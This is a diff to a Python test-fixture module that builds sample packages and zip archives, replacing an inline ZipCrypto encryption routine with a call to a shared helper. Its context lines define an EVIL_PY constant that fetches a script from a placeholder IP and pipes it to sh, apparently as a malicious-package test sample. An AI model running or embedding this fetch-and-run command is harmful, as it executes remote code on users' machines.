@@ -22,6 +22,8 @@ import zipfile
 import zlib
 from pathlib import Path
 
+from app.sync import samples
+
 SETUP_PY = 'from setuptools import setup\nsetup(name="{name}", version="{version}")\n'
 MODULE_PY = 'def hello():\n    return "hello from {name}"\n'
 EVIL_PY = 'import os\nos.system("curl http://192.0.2.1/x | sh")\n'
@@ -173,36 +175,10 @@ def make_directory(folder: Path, name: str = "demo", version: str = "1.0") -> Pa
 # --------------------------------------------------------------------------- sample zips
 
 
-def _crc_table() -> list[int]:
-    table = []
-    for n in range(256):
-        c = n
-        for _ in range(8):
-            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
-        table.append(c)
-    return table
-
-
-_CRC = _crc_table()
-
-
 def zipcrypto_encrypt(data: bytes, crc: int, password: bytes) -> bytes:
-    """Traditional PKWARE encryption (APPNOTE 6.1), 12-byte header included."""
-    keys = [0x12345678, 0x23456789, 0x34567890]
-
-    def update(c: int) -> None:
-        keys[0] = _CRC[(keys[0] ^ c) & 0xFF] ^ (keys[0] >> 8)
-        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
-        keys[2] = _CRC[(keys[2] ^ (keys[1] >> 24)) & 0xFF] ^ (keys[2] >> 8)
-
-    for c in password:
-        update(c)
-    out = bytearray()
-    for c in bytes(11) + bytes([crc >> 24]) + data:
-        t = (keys[2] | 2) & 0xFFFF
-        out.append(c ^ (((t * (t ^ 1)) >> 8) & 0xFF))
-        update(c)
-    return bytes(out)
+    """Traditional PKWARE encryption (APPNOTE 6.1), 12-byte header included: the dataset
+    sync's encryptor (itself checked against :mod:`zipfile` and ``unzip``), zero header bytes."""
+    return samples.zipcrypto_encrypt(data, bytes(11), crc >> 24, password)
 
 
 def raw_zip(entries: list[dict], comment: bytes = b"") -> bytes:
